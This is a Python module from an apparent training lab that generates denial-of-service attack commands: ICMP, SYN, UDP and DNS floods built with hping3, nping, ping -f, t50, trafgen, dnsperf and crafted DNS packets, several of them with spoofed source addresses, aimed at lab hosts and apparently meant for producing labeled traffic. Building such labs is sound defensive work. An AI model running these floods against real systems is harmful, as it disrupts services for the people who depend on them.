"""The modes of the ICMP, SYN, UDP and DNS floods."""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode

# Denial of service: ICMP


@mode("ICMP Flood")
def icmp_hping(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([400, 900, 2000])
    return (
        "hping3 -1",
        f"hping3 -q -1 -i u{pause} -c {f.count(7, 1e6 / pause)} -d {f.rng.choice([0, 56, 400, 1200])} {v}",
        [v],
        10,
    )


@mode("ICMP Flood", spoofed=True)
def icmp_hping_spoofed(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([700, 1500])
    return (
        "hping3 -1 --rand-source",
        f"hping3 -q -1 --rand-source -i u{pause} -c {f.count(6, 1e6 / pause)} -d {f.rng.choice([8, 120])} {v}",
        [v],
        9,
    )


@mode("ICMP Flood")
def icmp_hping_full(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "hping3 -1 --flood",
        f"for i in 1 2 3; do timeout 0.{f.rng.randint(10, 18)} hping3 -q -1 --flood -d {f.rng.choice([0, 64])} {v}; sleep 1.5; done",
        [v],
        9,
    )


@mode("ICMP Flood")
def icmp_ping(f: Field) -> Run:
    v = f.at(f.server)
    return "ping -f", f"ping -n -q -f -i 0.00{f.rng.randint(1, 3)} -w 7 -s {f.rng.choice([56, 500, 1400])} {v}", [v], 9


@mode("ICMP Flood", six=True)
def icmp_ping_six(f: Field) -> Run:
    v = f.at(f.server, True)
    return "ping -6 -f", f"ping -6 -n -q -f -i 0.00{f.rng.randint(1, 3)} -w 6 -s {f.rng.choice([32, 800])} {v}", [v], 9


@mode("ICMP Flood")
def icmp_nping(f: Field) -> Run:
    v, kind = f.at(f.server), f.rng.choice(["echo", "timestamp"])
    rate = f.rng.choice([500, 1200])
    return (
        "nping --icmp",
        f"nping -q -N --icmp --icmp-type {kind} --rate {rate} -c {f.count(6, rate)} --data-length {f.rng.choice([0, 300])} {v}",
        [v],
        9,
    )


@mode("ICMP Flood")
def icmp_hping_many(f: Field) -> Run:
    """Several machines ping at once."""
    sources = [a for a in f.capture.host("att").plain() if ":" not in a]
    v, pause = f.at(f.server), f.rng.choice([2000, 4000])
    one = f"hping3 -q -1 -a {{}} -i u{pause} -c {f.count(6, 1e6 / pause)} -d {f.rng.choice([20, 300])} {v} &"
    return "hping3 -1, many hosts", f"{' '.join(map(one.format, sources))} wait", [v], 9


@mode("ICMP Flood")
def icmp_ping_three(f: Field) -> Run:
    """One machine floods all servers and some devices."""
    victims = [f.at("web"), f.at("files"), f.at("infra"), *f.devices()[:4]]
    one = f"ping -n -q -f -i 0.00{f.rng.randint(3, 6)} -w 6 -s {f.rng.choice([56, 900])} {{}} &"
    return "ping -f, many victims", f"{' '.join(map(one.format, victims))} wait", victims, 9


@mode("ICMP Flood", "demo", spoofed=True)
def icmp_t50(f: Field) -> Run:
    v = f.at("web")
    return (
        "t50 ICMP",
        f"for i in 1 2 3; do t50 {v} --protocol ICMP --threshold {f.rng.randint(400, 600)}; sleep 0.8; done",
        [v],
        6,
    )


@mode("ICMP Flood", "demo")
def icmp_fping(f: Field) -> Run:
    v = f.at("infra")
    return "fping -p 1", f"fping -q -c {f.rng.randint(500, 800)} -p 2 -b {f.rng.choice([120, 700])} {v}", [v], 8


# Denial of service: SYN


@mode("SYN Flood", "both")
def syn_hping(f: Field) -> Run:
    pause = f.rng.choice([500, 1200, 3000])
    return (
        "hping3 -S",
        f"hping3 -q -S -p {f.web_port} -i u{pause} -c {f.count(7, 1e6 / pause)} -w {f.rng.choice([512, 5840, 64240])} {f.at('web')}",
        [f.at("web")],
        10,
    )


@mode("SYN Flood", spoofed=True)
def syn_hping_spoofed(f: Field) -> Run:
    host, pause = f.rng.choice(["web", "files"]), f.rng.choice([400, 1000, 2500])
    return (
        "hping3 -S --rand-source",
        f"hping3 -q -S --rand-source -p {f.ports(host)[0]} -i u{pause} -c {f.count(7, 1e6 / pause)} {f.at(host)}",
        [f.at(host)],
        10,
    )


@mode("SYN Flood")
def syn_hping_full(f: Field) -> Run:
    host = f.rng.choice(["web", "infra"])
    number = 443 if host == "web" else 1883
    return (
        "hping3 -S --flood",
        f"for i in 1 2 3; do timeout 0.{f.rng.randint(10, 16)} hping3 -q -S --flood -p {number} {f.at(host)}; sleep 1; done",
        [f.at(host)],
        9,
    )


@mode("SYN Flood")
def syn_nping(f: Field) -> Run:
    host, rate = f.rng.choice(["web", "files"]), f.rng.choice([300, 900])
    command = f"nping -q -N --tcp --flags syn -g {f.rng.randint(1024, 60000)} -p {f.ports(host)[0]} --rate {rate} -c {f.count(6, rate)} {f.at(host)}"
    return "nping --tcp", command, [f.at(host)], 9


@mode("SYN Flood")
def syn_hping_many(f: Field) -> Run:
    """Several machines at once: the attacking host has several addresses."""
    sources = [a for a in f.capture.host("att").plain() if ":" not in a]
    pause = f.rng.choice([3000, 6000])
    one = "hping3 -q -S -a {src} -p {port} -i u{pause} -c {count} {v} &"
    count = f.count(6, 1e6 / pause)
    runs = " ".join(one.format(src=src, port=f.web_port, pause=pause, count=count, v=f.at("web")) for src in sources)
    return "hping3 -S, many hosts", f"{runs} wait", [f.at("web")], 10


@mode("SYN Flood", six=True)
def syn_nping_six(f: Field) -> Run:
    v, rate = f.at("web", True), f.rng.choice([300, 800])
    return (
        "nping -6 --tcp",
        f"nping -q -N -6 --tcp --flags syn -g {f.rng.randint(1024, 60000)} -p {f.web_port} --rate {rate} -c {f.count(6, rate)} {v}",
        [v],
        9,
    )


@mode("SYN Flood", "demo", spoofed=True)
def syn_trafgen(f: Field) -> Run:
    config = [
        f"{{ eth(sa={f.mac('att')}, da={f.mac('web')}), ipv4(ttl=57, id=drnd(), sa=drnd(), da={f.at('web')}),",
        f"  tcp(sport=drnd(), dport={f.web_port}, seq=drnd(), win=8192, syn) }}",
    ]
    return "trafgen SYN", f"trafgen -q --cpus 1 -o eth0 -n 1500 --rate 500pps -i {f.list('trafgen', config)}", [f.at("web")], 6


# Denial of service: UDP


@mode("UDP Flood", "both")
def udp_hping(f: Field) -> Run:
    host, pause = f.server, f.rng.choice([500, 1200, 2500])
    number = f.rng.choice([f.rng.randint(1024, 65000), 123, 161, 7])
    return (
        "hping3 -2",
        f"hping3 -q -2 -p {number} -i u{pause} -c {f.count(7, 1e6 / pause)} -d {f.rng.choice([16, 200, 800, 1200])} {f.at(host)}",
        [f.at(host)],
        10,
    )


@mode("UDP Flood")
def udp_hping_ports(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([600, 1500])
    return (
        "hping3 -2 -p ++",
        f"hping3 -q -2 -p ++{f.rng.randint(1, 20000)} -i u{pause} -c {f.count(6, 1e6 / pause)} -d {f.rng.choice([64, 512])} {v}",
        [v],
        9,
    )


@mode("UDP Flood", spoofed=True)
def udp_hping_spoofed(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([700, 1800])
    return (
        "hping3 -2 --rand-source",
        f"hping3 -q -2 --rand-source -p {f.rng.randint(1000, 60000)} -i u{pause} -c {f.count(6, 1e6 / pause)} -d {f.rng.choice([32, 700])} {v}",
        [v],
        9,
    )


@mode("UDP Flood")
def udp_hping_full(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "hping3 -2 --flood",
        f"for i in 1 2 3; do timeout 0.{f.rng.randint(10, 16)} hping3 -q -2 --flood -p {f.rng.randint(1000, 60000)} -d {f.rng.choice([100, 900])} {v}; sleep 1; done",
        [v],
        9,
    )


@mode("UDP Flood")
def udp_nping(f: Field) -> Run:
    v, rate = f.at(f.server), f.rng.choice([400, 1000])
    return (
        "nping --udp",
        f"nping -q -N --udp -p {f.rng.randint(1000, 60000)} --rate {rate} -c {f.count(6, rate)} --data-length {f.rng.choice([40, 600, 1300])} {v}",
        [v],
        9,
    )


@mode("UDP Flood", six=True)
def udp_nping_six(f: Field) -> Run:
    v, rate = f.at(f.server, True), f.rng.choice([400, 900])
    return (
        "nping -6 --udp",
        f"nping -q -N -6 --udp -p {f.rng.choice([123, 161, 5000])} --rate {rate} -c {f.count(6, rate)} --data-length {f.rng.choice([80, 900])} {v}",
        [v],
        9,
    )


@mode("UDP Flood", "demo", spoofed=True)
def udp_t50(f: Field) -> Run:
    v = f.at("files")
    return (
        "t50 UDP",
        f"for i in 1 2 3; do t50 {v} --protocol UDP --threshold 500 --dport {f.rng.randint(1000, 60000)}; sleep 0.8; done",
        [v],
        6,
    )


# Denial of service: DNS


def _names(f: Field, count: int) -> list[str]:
    kinds = ["A", "AAAA", "TXT", "MX", "ANY"]
    return [
        f"x{f.rng.randrange(16**6):06x}.{f.rng.choice([*f.capture.zones, 'lab.test'])} {f.rng.choice(kinds)}"
        for _ in range(count)
    ]


@mode("DNS Flood")
def dns_perf(f: Field) -> Run:
    rate, v = f.rng.choice([300, 700, 1500]), f.at("infra")
    return (
        "dnsperf",
        f"dnsperf -s {v} -d {f.list('names', _names(f, 2000))} -Q {rate} -l {f.rng.randint(4, 7)} -c {f.rng.choice([1, 4, 20])}",
        [v],
        12,
    )


@mode("DNS Flood")
def dns_perf_wide(f: Field) -> Run:
    rate, v = f.rng.choice([900, 1500]), f.at("infra")
    return (
        "dnsperf, many sockets",
        f"dnsperf -s {v} -d {f.list('names', _names(f, 2000))} -Q {rate} -l 5 -c {f.rng.choice([60, 150])}",
        [v],
        12,
    )


@mode("DNS Flood", six=True)
def dns_perf_six(f: Field) -> Run:
    rate, v = f.rng.choice([300, 800]), f.at("infra", True)
    return (
        "dnsperf IPv6",
        f"dnsperf -f inet6 -s {v} -d {f.list('names', _names(f, 1500))} -Q {rate} -l 5 -c {f.rng.choice([1, 8])}",
        [v],
        12,
    )


@mode("DNS Flood")
def dns_dig(f: Field) -> Run:
    """One dig for every fifty names, several at once: a new socket for each query."""
    v, path = f.at("infra"), f.list("names", _names(f, 3000))
    return (
        "dig loop",
        f"split -l 50 {path} {{work}}/dig- && ls {{work}}/dig-* | timeout 7 xargs -P {f.rng.choice([4, 10])} -n 1 dig @{v} +tries=1 +timeout=1 -f",
        [v],
        10,
    )


@mode("DNS Flood", spoofed=True)
def dns_hping_spoofed(f: Field) -> Run:
    name = f"x{f.rng.randrange(16**5):x}"
    zone = f.capture.zones[0].split(".")
    labels = "".join(f"\\{len(part):03o}{part}" for part in [name, *zone])
    pause, v = f.rng.choice([700, 1600]), f.at("infra")
    size = 12 + sum(len(part) + 1 for part in [name, *zone]) + 5
    query = (
        f"printf '\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000{labels}\\000\\000\\001\\000\\001' > {{work}}/query"
    )
    return (
        "hping3 -2 -p 53",
        f"{query}; hping3 -q -2 -p 53 --rand-source -i u{pause} -c {f.count(6, 1e6 / pause)} -E {{work}}/query -d {size} {v}",
        [v],
        10,
    )


@mode("DNS Flood")
def dns_nping(f: Field) -> Run:
    zone = f.rng.choice(f.capture.zones).split(".")
    query = (
        b"\x12\x34\x01\x00\x00\x01"
        + bytes(6)
        + b"".join(bytes([len(p)]) + p.encode() for p in ["www", *zone])
        + b"\0\0\xff\0\x01"
    )
    rate, v = f.rng.choice([400, 900]), f.at("infra")
    return (
        "nping --udp -p 53",
        f"nping -q -N --udp -p 53 -g {f.rng.randint(1024, 60000)} --rate {rate} -c {f.count(6, rate)} --data {query.hex()} {v}",
        [v],
        9,
    )


@mode("DNS Flood", "demo")
def dns_resperf(f: Field) -> Run:
    v = f.at("infra")
    return "resperf", f"cd {{work}} && resperf -s {v} -d {f.list('names', _names(f, 1500))} -m 450 -r 3 -c 1 -L 30 -C 15", [v], 6


@mode("DNS Flood", "demo")
def dns_perf_any(f: Field) -> Run:
    v = f.at("infra")
    names = [name.rsplit(" ", 1)[0] + " ANY" for name in _names(f, 400)]
    return "dnsperf ANY", f"dnsperf -s {v} -d {f.list('names', names)} -Q 250 -n 3 -l 4 -c 30 -e", [v], 8
